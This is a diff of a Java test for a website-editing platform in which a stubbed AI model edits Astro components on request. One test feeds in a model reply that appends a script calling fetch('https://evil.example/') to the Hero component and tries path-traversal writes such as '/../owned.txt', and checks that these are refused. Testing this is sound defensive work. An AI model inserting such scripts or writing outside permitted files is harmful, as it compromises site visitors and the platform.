@@ -7,28 +7,17 @@ import io.chantier.Browser;
 import io.chantier.Browser.Look;
 import io.chantier.Client;
 import io.chantier.dashboard.Axe;
-import io.chantier.generation.AuthorSettings;
-import io.chantier.rendering.Samples;
-import io.chantier.sites.Site;
-import io.chantier.values.Slug;
-import io.chantier.values.TeamId;
-import java.io.IOException;
-import java.io.UncheckedIOException;
-import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
-import java.util.Objects;
-import java.util.SortedMap;
 import org.junit.jupiter.api.Test;
 import tools.jackson.databind.JsonNode;
 
 /** What the data cannot say goes to the operators; the real program changes one component, a person reads it. */
-class ComponentRequestsTest extends WithOldSite {
+class ComponentRequestsTest extends WithWishes {
 
     private static final String FOLDER = System.getProperty("screens.folder", "");
-    private static final String HERO = "src/components/sections/Hero.astro";
     private static final String WISH = "Un ruban « Fabriqué à Rennes » en haut de l'accueil (hero).";
 
     @Test
@@ -44,11 +33,11 @@ class ComponentRequestsTest extends WithOldSite {
                 .isEqualTo(409);
         assertThat(begun(slug, request, "../../pages/x").statusCode()).isEqualTo(422);
 
-        var broken = hero().replace("<Heading>", "<p class=\"ribbon\">{section.title</p><Heading>");
-        var whole = hero().replace("<Heading>", "<p class=\"ribbon\">{site.name}</p><Heading>");
+        var broken = shipped(HERO).replace("<Heading>", "<p class=\"ribbon\">{section.title</p><Heading>");
+        var whole = shipped(HERO).replace("<Heading>", "<p class=\"ribbon\">{site.name}</p><Heading>");
         API.model((turn, asked) -> {
             var isAgain = WritingModel.dossier(asked).has("complaint");
-            return turn > 0 ? MessagesStub.says("Done") : written(asked, "/" + HERO, isAgain ? whole : broken);
+            return turn > 0 ? MessagesStub.says("Done") : written(asked, HERO, "/" + HERO, isAgain ? whole : broken);
         });
         var proposed = crafted(slug, request);
 
@@ -72,7 +61,7 @@ class ComponentRequestsTest extends WithOldSite {
                 "accept",
                 Map.of("digest", proposed.path("digest").asString()));
         assertThat(accepted.statusCode()).as(accepted.body()).isEqualTo(200);
-        assertThat(new String(files(slug).get(HERO), StandardCharsets.UTF_8)).isEqualTo(whole);
+        assertThat(text(files(slug), HERO)).isEqualTo(whole);
         var newest = revisions.list(site(slug), 1).getFirst();
         assertThat(newest.message()).isEqualTo("component");
         assertThat(Client.json(accepted).path("revision").asString()).isEqualTo(newest.id());
@@ -92,9 +81,14 @@ class ComponentRequestsTest extends WithOldSite {
     void an_author_that_obeys_the_wish_is_refused_and_writes_nowhere_else() throws Exception {
         var slug = "ruban-obei";
         var request = handed(slug);
+        assertThat(screen(slug, request)).contains("/component/decline");
         API.model((turn, asked) -> turn > 0
                 ? MessagesStub.says("Done")
-                : written(asked, "/" + HERO, hero() + "\n<script>fetch('https://evil.example/')</script>\n"));
+                : written(
+                        asked,
+                        HERO,
+                        "/" + HERO,
+                        shipped(HERO) + "\n<script>fetch('https://evil.example/')</script>\n"));
         var script = crafted(slug, request);
         assertThat(script.path("state").asString()).isEqualTo("FAILED");
         assertThat(problem(slug, request)).isEqualTo("component-refused");
@@ -102,7 +96,7 @@ class ComponentRequestsTest extends WithOldSite {
         var outside = Files.createTempDirectory("outside").resolve("owned");
         for (var forbidden :
                 List.of("/../owned.txt", "/src/components/Picture.astro", "/package.json", "/src/lib/context.ts")) {
-            API.model((turn, asked) -> turn > 0 ? MessagesStub.says("Done") : written(asked, forbidden, "owned"));
+            API.model((turn, asked) -> turn > 0 ? MessagesStub.says("Done") : written(asked, HERO, forbidden, "owned"));
             var refused = crafted(slug, request);
             assertThat(refused.path("state").asString()).as(forbidden).isEqualTo("FAILED");
             assertThat(refused.path("diff").size()).isZero();
@@ -118,10 +112,36 @@ class ComponentRequestsTest extends WithOldSite {
         assertThat(outside).doesNotExist();
         assertThat(files(slug).keySet()).noneMatch(path -> path.startsWith("src/"));
 
+        assertThat(screen(slug, request)).contains("/component/decline");
+        mendedOnly(slug, request);
         assertThat(decided(slug, request, "decline", Map.of()).statusCode()).isEqualTo(422);
+        database.sql("update editing_change set state = 'ASKED' where id = ?::uuid")
+                .param(request)
+                .update();
         var declined = decided(slug, request, "decline", Map.of("reason", "Trop chargé"));
         assertThat(Client.json(declined).path("reason").asString()).isEqualTo("Trop chargé");
         assertThat(begun(slug, request, "Hero").statusCode()).isEqualTo(409);
+        assertThat(screen(slug, request)).doesNotContain("/component/decline");
+    }
+
+    /** A component with a style sheet, which nobody touches in either round: it stays the template's. */
+    private void mendedOnly(String slug, String request) {
+        var services = "src/components/sections/Services.astro";
+        API.model((turn, asked) -> {
+            var text = WritingModel.dossier(asked).has("complaint") ? "{section.title}" : "{section.title";
+            var changed = shipped(services).replace("  <ul ", "  <p>" + text + "</p>\n  <ul ");
+            return turn > 0 ? MessagesStub.says("Done") : written(asked, services, "/" + services, changed);
+        });
+        var mended = crafted(slug, request, "Services");
+        assertThat(mended.path("state").asString()).as(mended.toPrettyString()).isEqualTo("PROPOSED");
+        assertThat(mended.path("diff"))
+                .singleElement()
+                .satisfies(file -> assertThat(file.asString()).contains("--- a/" + services));
+    }
+
+    private String screen(String slug, String request) {
+        var browser = Client.of(environment).signedIn("admin", Client.ADMIN_PASSWORD);
+        return browser.get("/sites/" + slug + "/changes/" + request).body();
     }
 
     private void read(Browser browser, Look look, String slug, String request) throws Exception {
@@ -155,14 +175,7 @@ class ComponentRequestsTest extends WithOldSite {
 
     /** A site without a model, and a request that its data cannot meet. */
     private String handed(String slug) {
-        var chosen = settings.chosen();
-        settings.store(new AuthorSettings.Chosen("offline", chosen.models(), chosen.rounds()));
-        try {
-            var site = chantier.create(Map.of("sourceUrl", old.address(), "slug", slug, "goal", "GENERATED"));
-            chantier.finished(site.get("job").asString());
-        } finally {
-            settings.store(chosen);
-        }
+        written(slug);
         API.model((_, _) -> {
             var answer = MessagesStub.JSON.createObjectNode().put("summary", "").put("needsComponent", "Un ruban.");
             answer.putArray("operations");
@@ -175,7 +188,11 @@ class ComponentRequestsTest extends WithOldSite {
     }
 
     private JsonNode crafted(String slug, String request) {
-        var begun = begun(slug, request, "Hero");
+        return crafted(slug, request, "Hero");
+    }
+
+    private JsonNode crafted(String slug, String request, String section) {
+        var begun = begun(slug, request, section);
         assertThat(begun.statusCode()).as(begun.body()).isEqualTo(202);
         chantier.finished(Client.json(begun).path("job").asString());
         return Client.json(chantier.api().get(path(slug, request) + "/component"));
@@ -198,32 +215,5 @@ class ComponentRequestsTest extends WithOldSite {
 
     private static String path(String slug, String request) {
         return "/api/sites/" + slug + "/change-requests/" + request;
-    }
-
-    private static MessagesStub.Reply written(JsonNode asked, String file, String text) {
-        var work = WritingModel.work(asked);
-        var read = MessagesStub.use("Read", MessagesStub.JSON.createObjectNode().put("file_path", work + "/" + HERO));
-        return MessagesStub.content("tool_use", read, WritingModel.write(work + file, text));
-    }
-
-    private static String hero() {
-        try {
-            return Files.readString(Samples.template().resolve("template").resolve(HERO));
-        } catch (IOException e) {
-            throw new UncheckedIOException(e);
-        }
-    }
-
-    private Site site(String slug) {
-        var team = database.sql("select team_id from site where slug = ?")
-                .param(slug)
-                .query(String.class)
-                .single();
-        return sites.find(TeamId.of(team), new Slug(slug)).orElseThrow();
-    }
-
-    private SortedMap<String, byte[]> files(String slug) {
-        var site = site(slug);
-        return revisions.files(site, Objects.requireNonNull(site.status().revision()));
     }
 }
